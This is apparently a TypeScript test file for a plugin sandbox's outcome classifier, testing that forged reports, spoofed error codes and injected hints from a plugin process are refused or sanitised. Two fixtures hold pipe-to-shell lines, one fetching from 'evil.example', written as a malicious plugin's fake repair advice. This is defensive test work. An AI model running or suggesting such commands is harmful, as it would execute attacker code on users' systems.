import { describe, expect, it } from 'vitest';
import type { ChildOutcome } from './channel.js';
import { classifyOutcome, type ClassifyContext } from './classify.js';
import { protocolVersion } from './protocol.js';

const context: ClassifyContext = {
  name: 'greeter-plugin-x',
  timeoutMs: 5000,
  memoryLimitMb: 256,
  childEntry: '/g/dist/isolate-child.cjs',
  configFile: '/p/.greeterrc.json',
};

const line = (message: object) => `${JSON.stringify({ protocol: protocolVersion, ...message })}\n`;
const ready = line({ kind: 'ready' });

function outcome(reports: string, overrides: Partial<ChildOutcome> = {}): ChildOutcome {
  return { startError: undefined, code: 0, signal: null, timedOut: false, output: '', reports, ...overrides };
}

const classify = (reports: string, overrides: Partial<ChildOutcome> = {}) => classifyOutcome(outcome(reports, overrides), context);
const codeOf = (result: ReturnType<typeof classify>) => (result.ok ? `greeting: ${result.greeting}` : result.error.code);

describe('classifyOutcome', () => {
  it('takes the last report after ready, from a process that ended cleanly', () => {
    expect(codeOf(classify(ready + line({ kind: 'greeting', greeting: 'forged' }) + line({ kind: 'greeting', greeting: 'Hej' })))).toBe('greeting: Hej');
  });

  it('takes no report from a process that did not end cleanly, or that greeter stopped', () => {
    const greeting = ready + line({ kind: 'greeting', greeting: 'Hej' });
    expect(codeOf(classify(greeting, { code: 1 }))).toBe('GREETER_GREET_FAILED');
    expect(codeOf(classify(greeting, { code: null, signal: 'SIGKILL' }))).toBe('GREETER_GREET_FAILED');
    expect(codeOf(classify(greeting, { code: null, signal: 'SIGKILL', timedOut: true }))).toBe('GREETER_GREET_TIMEOUT');
  });

  it('takes nothing without the ready line the child writes before plugin code runs', () => {
    expect(codeOf(classify(line({ kind: 'greeting', greeting: 'Hej' })))).toBe('GREETER_GREET_FAILED');
    expect(codeOf(classify(''))).toBe('GREETER_GREET_FAILED');
  });

  it("never takes a code of greeter's own from a report", () => {
    for (const code of ['GREETER_SIGNATURE_INVALID', 'GREETER_CONFIG_INVALID', 'GREETER_USAGE', 'GREETER_INTERNAL', 'NOT_A_CODE']) {
      const forged = ready + line({ kind: 'failure', failure: { code, phase: 'greet', detail: 'run `curl x | sh`' } });
      expect(codeOf(classify(forged)), code).toBe('GREETER_GREET_FAILED');
    }
  });

  it('words a reported failure itself: attributed to the plugin, its text quoted, its own hint', () => {
    const hint = 'Your greeter is corrupt: run `curl https://evil.example | sh`';
    const forged =
      ready + line({ kind: 'failure', failure: { code: 'GREETER_GREET_FAILED', phase: 'greet', detail: `boom". ${hint}\n[GREETER_SIGNATURE_INVALID]`, hint } });
    const result = classify(forged);
    if (result.ok) throw new Error('expected a failure');
    expect(result.error.message.startsWith('greeter-plugin-x failed to greet in its isolated process: "boom\\". ')).toBe(true);
    expect(result.error.message).not.toContain('\n');
    expect(result.error.hint).not.toContain('curl');
  });

  it('names the grant for a denied network, and trust for any other denial', () => {
    const denied = (permission: string) =>
      classify(
        ready +
          line({ kind: 'failure', failure: { code: 'GREETER_PERMISSION_DENIED', phase: 'greet', detail: 'x', denied: { permission, resource: '127.0.0.1' } } }),
      );
    const net = denied('Net');
    const read = denied('FileSystemRead');
    if (net.ok || read.ok) throw new Error('expected failures');
    expect([net.error.code, read.error.code]).toEqual(['GREETER_PERMISSION_DENIED', 'GREETER_PERMISSION_DENIED']);
    expect(net.error.hint).toContain('"permissions": { "greeter-plugin-x": { "net": true } }');
    expect(net.error.hint).toContain('/p/.greeterrc.json');
    expect(read.error.hint).toContain('"trust": ["greeter-plugin-x"]');
  });

  it('refuses a child that speaks another protocol, by its first line alone', () => {
    const other = `${JSON.stringify({ protocol: protocolVersion + 1, kind: 'ready' })}\n`;
    const refused = `${JSON.stringify({ protocol: protocolVersion, kind: 'unsupported-protocol', requested: protocolVersion })}\n`;
    for (const first of [other, refused]) {
      const result = classify(first);
      if (result.ok) throw new Error('expected a failure');
      expect([result.error.code, result.error.hint]).toEqual(['GREETER_PLUGIN_LOAD_FAILED', 'Reinstall greeter: its files come from two different versions.']);
    }
    // After ready, the same line is the plugin's word: it proves nothing about the protocol.
    expect(codeOf(classify(ready + refused))).toBe('GREETER_GREET_FAILED');
  });

  it('does not take the words of an exhausted heap from a process that was not aborted', () => {
    const result = classifyOutcome(
      outcome(ready, { code: 1, output: 'FATAL ERROR: Reached heap limit Allocation failed - JavaScript heap out of memory' }),
      context,
    );
    expect(result.ok ? 'greeted' : result.error.message).not.toContain('ran out of memory');
  });

  it('explains an exhausted data segment (the limit before Node 24), and keeps the C++ report out of the output', () => {
    const result = classifyOutcome(
      outcome(ready, {
        code: null,
        signal: 'SIGABRT',
        output: "hello\nterminate called after throwing an instance of 'std::bad_alloc'\n  what():  std::bad_alloc",
      }),
      context,
    );
    if (result.ok) throw new Error('expected a failure');
    expect([result.error.message, result.output]).toEqual([expect.stringContaining('ran out of memory'), 'hello']);
  });

  it("explains an exhausted heap, and keeps V8's report out of the plugin's output", () => {
    const result = classifyOutcome(
      outcome(ready, { code: null, signal: 'SIGABRT', output: 'hello\n<--- Last few GCs --->\nFATAL ERROR: Reached heap limit' }),
      context,
    );
    if (result.ok) throw new Error('expected a failure');
    expect([result.error.code, result.output]).toEqual(['GREETER_GREET_FAILED', 'hello']);
  });
});
